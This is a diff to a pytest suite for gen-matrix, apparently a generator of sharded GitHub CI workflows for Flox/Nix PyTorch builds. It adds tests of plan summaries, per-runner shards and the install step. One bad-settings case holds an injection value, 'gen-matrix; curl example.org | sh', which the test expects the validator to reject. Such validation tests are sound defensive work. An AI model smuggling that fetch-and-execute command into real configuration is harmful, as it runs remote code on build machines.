@@ -167,6 +167,57 @@ def test_one_sm_build_edit_selects_exactly_that_sms_variants_for_a_rebuild(repo,
     assert document["include"] and metadata_only(document) == []
 
 
+def plan_of(run, root: Path, folder: Path, *args: str) -> dict:
+    result = run("ci", "--root", root, "--plan", folder, *args)
+    assert result.exit_code == 0, result.output
+    return json.loads((folder / "plan.json").read_text())
+
+
+@needs_git
+def test_the_plan_names_every_build_and_why_and_where_metadata_only_builds_get_their_heavy_build(repo, run, tmp_path):
+    edit(repo, override_sm("sm90", gpus=["H100", "H200", "GH200", "H20"]))
+    edit(repo, override_sm("sm61", cudnn=True))
+    generate(run, repo)
+    commit(repo, "Name the H20; build Pascal with cuDNN")
+    found = plan_of(run, repo, tmp_path / "catalog", "--changed-since", "HEAD~1", "--organisation", "acme")
+    builds = {entry["name"]: entry for entry in found["builds"]}
+    assert sorted(builds) == sorted(variant_names(repo, on_sm("sm90")) + variant_names(repo, on_sm("sm61")))
+    for name, entry in builds.items():
+        wrapper = "-sm90-" in name
+        assert entry["metadata_only"] is wrapper
+        assert entry["builds"] == ("wrapper" if wrapper else "full")
+        assert entry["why"] == ("its wrapper alone changed (metadata only): the heavy build is unchanged" if wrapper
+                                else "its heavy build changed")
+    assert found["heavy_source"] == "catalog"
+    summary = (tmp_path / "catalog" / "summary.md").read_text()
+    assert "fetch their unchanged heavy build from the Flox catalog of\nacme" in summary
+    with_catalog = found["estimated_minutes"]
+
+    # no organisation and no cache: nowhere to fetch from, so they count as full builds
+    nowhere = plan_of(run, repo, tmp_path / "nowhere", "--changed-since", "HEAD~1")
+    assert nowhere["heavy_source"] is None
+    assert {entry["builds"] for entry in nowhere["builds"]} == {"full"}
+    sm90 = len(variant_names(repo, on_sm("sm90")))
+    costs = expansion_of(repo).matrix.knowledge.build_costs
+    assert nowhere["estimated_minutes"] - with_catalog == sm90 * (costs["gpu"].minutes - costs["wrapper"].minutes)
+    summary = (tmp_path / "nowhere" / "summary.md").read_text()
+    assert f"No source for the heavy builds of {sm90} metadata-only build(s)" in summary
+    assert "counts them as full builds" in summary
+
+
+def test_the_summary_counts_and_names_the_first_of_each_group_and_stays_small(big, run, tmp_path):
+    plan_of(run, big, tmp_path / "plan")
+    summary = (tmp_path / "plan" / "summary.md").read_text()
+    everything = names(ci(run, big))
+    assert "| torch, gpu | 300 |" in summary
+    first = sorted(everything)[:10]
+    assert f"| torch, gpu | 300 | {' '.join(first)} and 290 more |" in summary
+    assert sorted(everything)[10] not in summary
+    assert len(summary.encode()) < 8_000
+    found = json.loads((tmp_path / "plan" / "plan.json").read_text())
+    assert sorted(entry["name"] for entry in found["builds"]) == everything
+
+
 @needs_git
 def test_the_working_tree_counts_before_it_is_committed(repo, run):
     edit(repo, override_sm("sm61", cudnn=True))
@@ -367,8 +418,9 @@ def test_selection_is_exactly_what_differs_and_shards_partition_it(how, gone, si
         assert all(SHIPPED.by_name[name].is_companion for name in job.builds[1:])
     assert selection.deleted == tuple(sorted(gone))
     shards = selection.shards(size)
-    assert [job for shard in shards for job in shard] == list(selection.jobs)
+    assert sorted(job.name for shard in shards for job in shard) == [job.name for job in selection.jobs]
     assert all(0 < len(shard) <= size for shard in shards)
+    assert all(len({(job.runner, job.gpu) for job in shard}) == 1 for shard in shards)  # one runner a shard
     assert len(shards) <= workflow_.shard_count(SHIPPED, size)
 
 
@@ -411,10 +463,26 @@ def test_the_workflow_has_one_build_job_per_shard(big, run):
     assert sorted(jobs) == ["build-0", "build-1", "mark-published", "plan"]
     assert jobs["mark-published"]["needs"] == ["plan", "build-0", "build-1"]
     for k in (0, 1):
-        assert jobs[f"build-{k}"]["strategy"]["matrix"] == f"${{{{ fromJSON(needs.plan.outputs.shard_{k}) }}}}"
+        assert jobs[f"build-{k}"]["strategy"]["matrix"] == {"slot": f"${{{{ fromJSON(needs.plan.outputs.shard_{k}).slots }}}}"}
+        assert jobs[f"build-{k}"]["runs-on"] == f"${{{{ fromJSON(needs.plan.outputs.shard_{k}).runner }}}}"
         assert jobs[f"build-{k}"]["if"] == f"contains(fromJSON(needs.plan.outputs.shards), {k})"
         assert f"shard_{k}" in jobs["plan"]["outputs"]
-        assert f"--shard {k})" in steps(jobs["plan"])["Select the variants whose build inputs changed"]["run"]
+    # one gen-matrix run selects for every shard; its outputs are what the shards read
+    select = steps(jobs["plan"])["Select the variants whose build inputs changed"]["run"]
+    assert len(re.findall(r"^\s*gen-matrix ", select, re.M)) == 1 and "--plan" in select and "--shard" not in select
+    plan = big / "plan"
+    assert run("ci", "--root", big, "--plan", plan).exit_code == 0
+    lines = dict(line.split("=", 1) for line in (plan / "github-output").read_text().splitlines())
+    assert sorted(lines) == ["shard_0", "shard_1", "shards"]
+    assert json.loads(lines["shards"]) == ci(run, big, "--shards")
+    # each output holds a shard's runner and slots; each slot's job is in the plan's JSON
+    shards = json.loads((plan / "plan.json").read_text())["shards"]
+    for k in (0, 1):
+        jobs = ci(run, big, "--shard", str(k))["include"]
+        assert json.loads(lines[f"shard_{k}"]) == {"runner": jobs[0]["runner"], "gpu": jobs[0]["gpu"],
+                                                   "slots": list(range(len(jobs)))}
+        assert shards[k] == jobs
+    assert len(lines["shard_0"]) < 2_000  # 256 jobs: the slots and the runner, whatever they build
 
 
 def test_shard_size_from_the_command_line_and_from_the_matrix(big, run):
@@ -473,11 +541,13 @@ ci:
     assert 'nix-build ".flox/pkgs/$name.nix" -A pythonEnv -o "$RUNNER_TEMP/python-$name"' in smoke["run"]
     assert ('gen-matrix smoke "$name" --builder --python "$RUNNER_TEMP/python-$name/bin/python" --result "result-$name"'
             in smoke["run"])
-    # the plan evaluates every selected recipe before it ends, and so before any build job
+    # the plan stops on a recipe that does not evaluate before it ends, and so before any
+    # build job; the selection evaluated them, and nothing evaluates them again
     plan = [step.get("name") for step in document["jobs"]["plan"]["steps"]]
     assert plan.index("Select the variants whose build inputs changed") < plan.index(
-        "Evaluate every selected recipe before anything builds") == len(plan) - 1
-    assert 'gen-matrix eval "${names[@]}"' in steps(document["jobs"]["plan"])[plan[-1]]["run"]
+        "Stop where a selected recipe does not evaluate, before anything builds") == len(plan) - 1
+    assert "gen-matrix" not in steps(document["jobs"]["plan"])[plan[-1]]["run"]
+    assert "eval-errors.txt" in steps(document["jobs"]["plan"])[plan[-1]]["run"]
     assert build["needs"] == "plan"
 
     entries = {entry["name"]: entry for entry in ci(run, tmp_path)["include"]}
@@ -487,6 +557,43 @@ ci:
     # the other CUDA builds go to the built-in labels for GPU builders, not to `runners`
     assert {tuple(e["runner"]) for n, e in entries.items() if n not in on_gpu} == \
         {("self-hosted", "linux", "x64", "pytorch-builder")}
+
+
+def test_the_workflow_installs_the_gen_matrix_it_was_generated_with(tmp_path, run):
+    (tmp_path / "matrix.yaml").write_text(SYNTHETIC)
+    generate(run, tmp_path)
+    for job in ("plan", "build-0"):
+        install = steps(workflow(tmp_path)["jobs"][job])["Install gen-matrix"]
+        assert install["env"]["GEN_MATRIX_REQUIREMENT"] == workflow_.default_requirement()
+        assert re.fullmatch(r"gen-matrix==\S+", install["env"]["GEN_MATRIX_REQUIREMENT"])
+    wanted = "gen-matrix @ git+https://example.org/acme/gen-matrix@v0.1.0"
+    (tmp_path / "matrix.yaml").write_text(SYNTHETIC + f"ci: {{gen_matrix: '{wanted}'}}\n")
+    generate(run, tmp_path)
+    install = steps(workflow(tmp_path)["jobs"]["plan"])["Install gen-matrix"]
+    assert install["env"]["GEN_MATRIX_REQUIREMENT"] == wanted
+
+
+@pytest.mark.parametrize("pyproject, installed", [
+    ('[project]\nname = "gen-matrix"\n', "."),  # the gen-matrix repository: this commit's generator
+    ('[project]\nname = "something-else"\n', "gen-matrix==9.9"),  # a repository of its own
+    (None, "gen-matrix==9.9"),  # a matrix repository made by `gen-matrix init`: no pyproject
+])
+def test_the_install_step_picks_the_checkout_only_in_the_gen_matrix_repository(tmp_path, pyproject, installed):
+    install = steps(workflow(REPO)["jobs"]["plan"])["Install gen-matrix"]
+    if pyproject is not None:
+        (tmp_path / "pyproject.toml").write_text(pyproject)
+    shim = tmp_path / "bin"
+    shim.mkdir()
+    # `python` runs the real interpreter, except `python -m pip install X`, which records X
+    (shim / "python").write_text(f"""#!/usr/bin/env bash
+if [ "$1 $2 $3" = "-m pip install" ]; then echo "$4" > "{tmp_path}/installed"; exit 0; fi
+exec {sys.executable} "$@"
+""")
+    (shim / "python").chmod(0o755)
+    done = subprocess.run(["bash", "-e", "-c", install["run"]], cwd=tmp_path, capture_output=True, text=True,
+                          env={"PATH": f"{shim}:/usr/bin:/bin", "GEN_MATRIX_REQUIREMENT": "gen-matrix==9.9"})
+    assert done.returncode == 0, done.stderr
+    assert (tmp_path / "installed").read_text().strip() == installed
 
 
 def test_runners_per_kind_come_before_runners_per_system(tmp_path, run):
@@ -510,13 +617,13 @@ def test_shipped_workflow_builds_on_pull_requests_and_publishes_on_main_without_
     assert set(document[True]) == {"pull_request", "push", "workflow_dispatch"}
     assert document[True]["push"]["branches"] == ["main"]
     assert document["concurrency"]["cancel-in-progress"] == "${{ github.event_name == 'pull_request' }}"
-    assert "'publish'" in document["concurrency"]["group"]
+    assert document["concurrency"]["group"] == "${{ github.workflow }}-${{ github.ref }}"
     plan, build = document["jobs"]["plan"], document["jobs"]["build-0"]
     assert steps(plan)["actions/checkout@v4"]["with"]["fetch-depth"] == 0
     assert "gen-matrix check" in [step.get("run") for step in plan["steps"]]
     assert steps(build)["actions/checkout@v4"]["with"]["fetch-depth"] == 0
     assert "flox/install-flox-action@v2" in steps(build)
-    assert build["runs-on"] == "${{ matrix.runner }}"
+    assert build["runs-on"] == "${{ fromJSON(needs.plan.outputs.shard_0).runner }}"
     assert steps(build)["Publish to the Flox catalog"]["if"] == "needs.plan.outputs.publish == 'true'"
     assert document["jobs"]["mark-published"]["permissions"] == {"contents": "write"}
     assert document["permissions"] == {"contents": "read"}
@@ -537,6 +644,7 @@ def test_shipped_workflow_builds_on_pull_requests_and_publishes_on_main_without_
     ("ci: {cache: {type: nfs}}\n", "matrix.yaml:8:", "ci.cache.type"),
     ("ci: {cache: {type: attic, name: acme, secret: T}}\n", "matrix.yaml:8:", "needs 'substituter'"),
     ("ci: {kind_runners: {companion: {x86_64-linux: [big]}}}\n", "matrix.yaml:8:", "unknown key 'companion'"),
+    ("ci: {gen_matrix: 'gen-matrix; curl example.org | sh'}\n", "matrix.yaml:8:", "ci.gen_matrix"),
 ])
 def test_bad_ci_settings_are_located_errors_and_write_nothing(tmp_path, run, ci_section, where, words):
     (tmp_path / "matrix.yaml").write_text(SYNTHETIC + ci_section)
@@ -580,7 +688,8 @@ def test_sharded_workflow_with_a_gpu_runner_and_a_cache_passes_actionlint_with_s
     (tmp_path / ".github" / "actionlint.yaml").write_text("self-hosted-runner:\n  labels: [h100]\n")
     result = actionlint(tmp_path)
     assert result.returncode == 0, result.stdout + result.stderr
-    assert len([job for job in workflow(tmp_path)["jobs"] if job.startswith("build-")]) == 3
+    # 270 torches on the builders' runner in 3 shards, the 30 of sm90 on the GPU runner in one
+    assert len([job for job in workflow(tmp_path)["jobs"] if job.startswith("build-")]) == 4
 
 
 @pytest.mark.parametrize("schema", ["vendor.github-workflows", "custom.github-workflows-require-timeout"])
